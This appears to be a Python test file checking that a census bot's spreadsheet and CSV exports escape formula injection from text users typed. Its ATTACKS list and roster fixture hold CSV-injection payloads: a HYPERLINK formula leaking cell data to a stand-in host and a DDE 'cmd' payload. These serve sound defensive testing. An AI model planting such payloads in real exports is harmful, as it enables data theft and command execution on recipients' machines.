"""Exports are data only: text a person typed never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.cli.main import main
from bot.db.engine import create_engine, create_sessionmaker
from bot.db.models.staff import Staff
from bot.services.reports.progress import UnitProgress
from bot.services.reports.templates import templates
from bot.services.reports.xlsx import ExportSheet, build_export_xlsx
from bot.services.shared.safe_cells import FORMULA_LEADS, csv_row, safe_text
from tests.conftest import ZHENGZHOU, at

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]


@given(st.text(max_size=40))
def test_safe_text_never_starts_with_a_formula_lead(text: str) -> None:
    out = safe_text(text)
    assert not out.startswith(FORMULA_LEADS)
    assert out.endswith(text) or len(text) > 32000


def test_numbers_stay_numbers_in_csv() -> None:
    assert csv_row([1, 2.5, "=x", None]) == ["1", "2.5", "'=x", ""]


def _progress(name: str, problems: str) -> UnitProgress:
    return UnitProgress(
        unit_code="410102", name=name, name_en=None, phase="survey",
        period_start=date(2018, 10, 8), period_end=date(2018, 10, 8),
        deadline=at("2018-10-08 10:00"), status="submitted",
        submitted_at=datetime(2018, 10, 8, 9, 0), values={"industrial_filled": 120.0},
        targets={}, completion_rate=12.5, previous_rate=None, version=1,
        text={"problems": problems})


def test_an_export_opened_with_openpyxl_holds_no_formula_from_user_text() -> None:
    template = templates()["survey"]
    rows = [_progress(attack, attack) for attack in ATTACKS]
    data = build_export_xlsx([ExportSheet(template, rows, None)], locale="zh_CN",
                             t=lambda s: s, status_names={})
    wb = load_workbook(io.BytesIO(data))
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_LEADS), cell.value
                    seen.append(cell.value)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in seen  # kept, as text
    assert 120 in [c.value for ws in wb.worksheets for r in ws.iter_rows() for c in r]


@pytest.fixture
def db(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """A migrated SQLite database with Zhengzhou and a strong secret."""
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.setenv("CENSUSBOT_SECRET", "x" * 32)
    assert main(["org", "load", str(ZHENGZHOU)]) == 0
    return sqlite_url


def test_the_code_list_csv_is_data_only(db: str, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("staff_id,name,role,unit_code,phone\n"
                      "ZZ-410102-0001,\"=HYPERLINK(\"\"http://x\"\")\",enumerator,410102,"
                      "13800000001\n", encoding="utf-8")
    assert main(["staff", "import", str(roster)]) == 0
    capsys.readouterr()
    assert main(["staff", "codes", "--unit", "410102"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][1] == "'=HYPERLINK(\"http://x\")"
    assert _stored_name(db) == "=HYPERLINK(\"http://x\")"  # the roster keeps what was typed


def _stored_name(url: str) -> str:
    import asyncio

    from sqlalchemy import select

    async def read() -> str:
        engine = create_engine(url)
        try:
            async with create_sessionmaker(engine)() as session:
                return str(await session.scalar(select(Staff.name)))
        finally:
            await engine.dispose()
    return asyncio.run(read())


def test_a_weak_secret_is_refused(db: str, monkeypatch: pytest.MonkeyPatch,
                                  capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("CENSUSBOT_SECRET", "short-secret")
    assert main(["staff", "codes", "--unit", "410100"]) == 2
    err = capsys.readouterr().err
    assert "CENSUSBOT_SECRET is too weak: 12 bytes, at least 32" in err
